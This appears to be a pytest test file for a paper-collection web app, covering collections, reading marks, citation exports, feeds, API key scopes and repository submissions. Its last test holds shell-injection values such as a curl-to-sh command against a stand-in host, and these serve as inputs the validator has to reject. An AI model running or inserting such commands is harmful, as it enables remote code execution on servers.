"""Collections, marks and submissions, through the site and its API."""

import json
import re
from datetime import date

import feedparser
import pytest

from broadsheet.errors import InputError
from broadsheet.lab.backup import backup, restore
from broadsheet.lab.store import Store
from broadsheet.page import Catalogue
from broadsheet.page.bibtex import entries
from broadsheet.page.catalogue import ListedPaper
from broadsheet.page.citation import csl, ris
from broadsheet.page.facts import Facts
from broadsheet.readers import collecting, leaving, rates, submitting
from broadsheet.web import collecting as pages_of

PAPERS = ("grad-dft", "transip", "granet")


def collection(browser, title="Spikes & bridges", public=False, papers=PAPERS):
    made = browser.post("/account/collections", data={"title": title, **({"public": "true"} if public else {})})
    number = int(made.headers["location"].rpartition("/")[2])
    for slug in papers:
        assert browser.post(f"/collections/{number}/papers", data={"paper": slug}).status_code == 303
    return number


def order(browser, number):
    return [item["slug"] for item in browser.get(f"/api/v1/collections/{number}").json()["papers"]]


def test_a_collection_keeps_its_order_and_notes(site):
    ada = site(address="ada@example.org")
    number = collection(ada)
    assert order(ada, number) == list(PAPERS)
    ada.post(f"/collections/{number}/move", data={"paper": "granet", "place": 0})
    ada.post(f"/collections/{number}/papers", data={"paper": "transip", "note": "Read <b>this</b> first"})
    ada.post(f"/collections/{number}/take", data={"paper": "grad-dft"})
    assert order(ada, number) == ["granet", "transip"]
    assert "Read &lt;b&gt;this&lt;/b&gt; first" in ada.get(f"/collections/{number}").text
    ada.post(f"/collections/{number}/move", data={"paper": "granet", "place": 2000})
    assert order(ada, number) == ["transip", "granet"]
    assert ada.post(f"/collections/{number}/papers", data={"paper": "no such paper"}).status_code == 422
    assert ada.post("/account/collections", data={"title": "SPIKES & bridges!"}).status_code == 422  # reads the same


def test_a_day_has_room_for_so_many_new_collections(site, monkeypatch):
    monkeypatch.setattr(pages_of, "COLLECTIONS", rates.Limit("made into a collection", 2, 86_400))
    ada, bob = site(address="ada@example.org"), site(address="bob@example.org")
    codes = [ada.post("/account/collections", data={"title": f"Number {k}"}).status_code for k in range(3)]
    assert codes == [303, 303, 429]
    answer = ada.post("/api/v1/me/collections", json={"title": "Another"})
    assert answer.status_code == 429
    assert 0 < int(answer.headers["retry-after"]) <= 86_400
    assert bob.post("/account/collections", data={"title": "Mine"}).status_code == 303


def test_others_see_public_collections_alone_and_change_none(site):
    ada, bob, anybody = site(address="ada@example.org"), site(address="bob@example.org"), site()
    own = collection(ada)
    for browser in (bob, anybody):
        assert browser.get(f"/collections/{own}").status_code == 404
        assert browser.get(f"/collections/{own}/export.bib").status_code == 404
        assert browser.get(f"/feeds/collections/{own}.atom").status_code == 404
    forms = {
        "change": {"title": "Mine now", "public": "true"}, "delete": {}, "papers": {"paper": "escaip"}, "take": {"paper": "granet"},
        "move": {"paper": "granet", "place": "0"},
    }  # fmt: skip
    assert {bob.post(f"/collections/{own}/{name}", data=given).status_code for name, given in forms.items()} == {404}
    assert bob.post("/collect", data={"paper": "escaip", "collection": own}).status_code == 404
    assert order(ada, own) == list(PAPERS)
    ada.post(f"/collections/{own}/change", data={"title": "For all", "text": "Of <i>all</i> kinds", "public": "true"})
    assert "Of &lt;i&gt;all&lt;/i&gt; kinds" in anybody.get(f"/collections/{own}").text
    assert "For all" in anybody.get("/collections").text
    assert "ada@example.org" not in anybody.get(f"/collections/{own}").text


def test_a_private_feed_has_an_address_that_cannot_be_guessed(site):
    ada, anybody = site(address="ada@example.org"), site()
    number = collection(ada)
    path = re.search(r'href="(/feeds/collections/[^"]+)"', ada.get(f"/collections/{number}").text)[1]
    read = feedparser.parse(anybody.get(path).text)
    assert [entry.link.rpartition("/")[2] for entry in read.entries] == list(reversed(PAPERS))
    wrong = path.replace(".atom", "")[:-1] + ("0" if path[-6] != "0" else "1") + ".atom"
    assert anybody.get(wrong).status_code == 404


def test_exports_are_read_by_other_parsers(site):
    ada = site(address="ada@example.org")
    Catalogue().add("hub", [Facts("On $x^2$ & more", arxiv="2512.00009", names=("Ada B. One", "The X Collaboration"),
                                  published="2025-12-10")], date(2025, 12, 11))  # fmt: skip
    ada.app.state.edition.refresh()
    number = collection(ada, papers=("2512.00009", "transip"))
    found = dict(entries(ada.get(f"/collections/{number}/export.bib").text))
    assert next(fields.get("eprint") for fields in found.values()) == "2512.00009"
    items = json.loads(ada.get(f"/collections/{number}/export.json").text)
    assert items[0]["author"] == [{"family": "One", "given": "Ada B."}, {"literal": "The X Collaboration"}]
    assert items[0]["issued"] == {"date-parts": [[2025, 12, 10]]}
    lines = ada.get(f"/collections/{number}/export.ris").text.split("\r\n")
    assert lines[0] == "TY  - GEN"
    assert lines.count("ER  - ") == 2
    assert "AU  - One, Ada B." in lines
    assert "AU  - The X Collaboration" in lines


def test_a_title_cannot_bring_lines_into_an_export():
    paper = ListedPaper("a", "A\r\nER  - \r\nTY  - X", names=["Jane\nDoe Smith Jr."], published="2025-01-02")
    assert [line[:2] for line in ris(paper, paper.title).splitlines()] == ["TY", "ID", "TI", "AU", "PY", "DA", "ER"]
    assert csl(paper, "T")["author"][0]["suffix"] == "Jr."


def test_marks_are_the_readers_alone_and_can_be_taken_back(site):
    ada, bob = site(address="ada@example.org"), site(address="bob@example.org")
    for path, name in (("/later", "keep"), ("/read", "read")):
        assert ada.post(path, data={"paper": "transip"}).status_code == 303
        assert ada.post(path, data={"paper": "granet"}).status_code == 303
        assert ada.post(path, data={"paper": "granet", name: "false"}).status_code == 303
    assert ada.get("/api/v1/me/marks").json() == {"read": ["transip"], "later": ["transip"], "votes": []}
    assert bob.get("/api/v1/me/marks").json() == {"read": [], "later": [], "votes": []}
    assert 'aria-pressed="true">Read later' in ada.get("/papers/transip").text
    assert "aria-pressed" not in site().get("/papers/transip").text
    later = next(shelf for shelf in ada.get("/api/v1/me/collections").json() if shelf["kind"] == "later")
    ada.post(f"/collections/{later['id']}/change", data={"title": "Shown", "public": "true"})
    assert bob.get(f"/collections/{later['id']}").status_code == 404  # what is for later is never shown


def test_papers_like_a_whole_collection_are_those_like_most_of_it(site):
    view = site().app.state.edition
    shelf = ["grad-dft", "bayesian-potentials", "escaip"]
    found = view.similar_to_all(shelf, 5)
    assert found
    assert not set(found) & set(shelf)
    assert set(found) <= {other for slug in shelf for other in view.similar(slug, 20)}
    assert view.similar_to_all([]) == []


def test_what_readers_bring_waits_for_the_administrator(site):
    ada, bob, administrator = site(address="ada@example.org"), site(address="bob@example.org"), site()
    assert ada.post("/submit", data={"value": "https://github.com/ada/claims/", "note": "<script>"}).status_code == 303
    assert ada.post("/submit", data={"value": "https://GitHub.com/ada/claims"}).status_code == 422  # it waits already
    for wrong in ("http://x.org/y", "https://user:pass@x.org/y", "javascript:1", "https://x.org/?a=b", "file:///etc"):
        assert ada.post("/submit", data={"value": wrong}).status_code == 422, wrong
    known = next(iter(ada.app.state.edition.view.aliases))
    assert ada.post("/submit", data={"value": known}).status_code == 422
    page = administrator.get("/administrator/submissions").text
    assert "git clone --depth 1 https://github.com/ada/claims submitted-1" in page
    assert "&lt;script&gt;" in page
    assert (
        administrator.post("/administrator/submissions/1", data={"outcome": "refused", "answer": "No tests"}).status_code == 303
    )
    assert administrator.post("/administrator/submissions/1", data={"outcome": "accepted"}).status_code == 422
    assert "No tests" in ada.get("/submit").text
    assert "No tests" not in bob.get("/submit").text


def test_an_account_has_few_submissions_waiting(site, home):
    ada = site(address="ada@example.org")
    store = ada.app.state.edition.store
    for k in range(submitting.MOST_WAITING):
        submitting.submit(store, 1, f"https://example.org/r{k}")
    with pytest.raises(InputError, match="wait already"):
        submitting.submit(store, 1, "https://example.org/one-more")


def test_the_api_wants_the_scope(site):
    ada = site(address="ada@example.org")
    secret = re.search(r"bsr_[\w-]+", ada.post("/account/keys", data={"name": "reader", "scope": ["read"]}).text)[0]
    script = site()
    script.headers["authorization"] = f"Bearer {secret}"
    assert script.get("/api/v1/me/collections").status_code == 200
    assert script.post("/api/v1/me/collections", json={"title": "By script"}).status_code == 403
    assert script.get("/account").status_code == 403  # pages are for who is signed in
    script.headers["authorization"] = "Bearer bsr_wrong"
    assert script.get("/api/v1/me/collections").status_code == 401
    assert site().get("/api/v1/me/collections").status_code == 401


def test_a_deleted_collections_feed_opens_no_later_one(site):
    ada, anybody = site(address="ada@example.org"), site()
    number = collection(ada)
    path = re.search(r'href="(/feeds/collections/[^"]+)"', ada.get(f"/collections/{number}").text)[1]
    assert anybody.get(path).status_code == 200
    ada.post(f"/collections/{number}/delete")
    assert collection(ada, "Another") == number  # SQLite gives the number again
    assert anybody.get(path).status_code == 404


def test_collections_of_a_blocked_account_are_seen_by_nobody_else(site):
    ada, anybody = site(address="ada@example.org"), site()
    number = collection(ada, "Buy <this>", public=True)
    assert "Buy &lt;this&gt;" in anybody.get("/collections").text
    leaving.block(ada.app.state.edition.store, 1)
    assert "Buy" not in anybody.get("/collections").text
    for path in (f"/collections/{number}", f"/feeds/collections/{number}.atom", f"/api/v1/collections/{number}"):
        assert anybody.get(path).status_code == 404
    leaving.block(ada.app.state.edition.store, 1, False)
    assert anybody.get(f"/collections/{number}").status_code == 200


def test_empty_collections_push_no_others_out_of_the_list(site):
    ada, bob = site(address="ada@example.org"), site(address="bob@example.org")
    store = ada.app.state.edition.store
    collection(bob, "Bob's", public=True)
    for k in range(3):
        collecting.make(store, 1, f"Empty {k}", public=True)
    assert [(shelf.title, shelf.count) for shelf in collecting.public(store, 2)] == [("Bob's", 3)]


def test_a_large_collection_has_pages(site, monkeypatch):
    monkeypatch.setattr(pages_of, "PER_PAGE", 2)
    ada, anybody = site(address="ada@example.org"), site()
    number = collection(ada, public=True, papers=(*PAPERS, "escaip", "hlop"))
    first, second = (anybody.get(f"/collections/{number}?number={k}").text for k in (1, 2))
    assert [slug for slug in (*PAPERS, "escaip", "hlop") if f'<li id="{slug}">' in first] == list(PAPERS[:2])
    assert "5 papers" in first
    assert "1 of 3" in first
    assert '<ol class="shelf" start="3">' in second
    assert f'<li id="{PAPERS[2]}">' in second
    assert anybody.get(f"/collections/{number}?number=4").status_code == 404
    own = ada.get(f"/collections/{number}?number=2").text
    assert (own.count("Move up"), own.count("Move down")) == (2, 2)
    moved = ada.post(f"/collections/{number}/move", data={"paper": "hlop", "place": "3"})
    assert moved.headers["location"] == f"/collections/{number}?number=2#hlop"
    assert order(ada, number) == [*PAPERS, "hlop", "escaip"]
    ada.post(f"/collections/{number}/take", data={"paper": PAPERS[0]})
    ada.post(f"/collections/{number}/move", data={"paper": "escaip", "place": "0"})
    assert order(ada, number) == ["escaip", *PAPERS[1:], "hlop"]


def test_what_a_collection_says_has_no_characters_that_are_none(site, tmp_path):
    ada, anybody = site(address="ada@example.org"), site()
    number = collection(ada, "A\x00B\x0c\u202eC", public=True)
    ada.post(f"/collections/{number}/papers", data={"paper": "transip", "note": "Read\x00 this\ufffe"})
    ada.post(f"/collections/{number}/change", data={"title": "A\x00B\x0c\u202eC", "text": "x\x00y", "public": "true"})
    ada.post("/submit", data={"value": "https://example.org/ada/claims", "note": "n\x00o"})
    made = ada.get(f"/api/v1/collections/{number}").json()
    assert (made["title"], made["text"], made["papers"][1]["note"]) == ("ABC", "xy", "Read this")
    assert not feedparser.parse(anybody.get(f"/feeds/collections/{number}.atom").content).bozo
    archive = tmp_path / "all.zip"
    counts = backup(ada.app.state.edition.store, archive)
    assert restore(Store(tmp_path / "other"), archive) == counts


def test_a_repositorys_address_means_nothing_to_a_shell(site):
    ada = site(address="ada@example.org")
    for harm in (";curl${IFS}evil.org|sh", "$(id)", "`id`", "&id", ">x", "'", '"', "(x)", "{a,b}", "\\x", "*", "?"):
        assert ada.post("/submit", data={"value": f"https://example.org/ada/claims{harm}"}).status_code == 422, harm
    for wrong in ("https://[", "https://[::1]/x", "https://@example.org/x", "https://$(id).org/x", "https://example.org"):
        assert ada.post("/submit", data={"value": wrong}).status_code == 422, wrong
    assert ada.post("/submit", data={"value": "https://git.example.org:8443/~ada/c++.git"}).status_code == 303
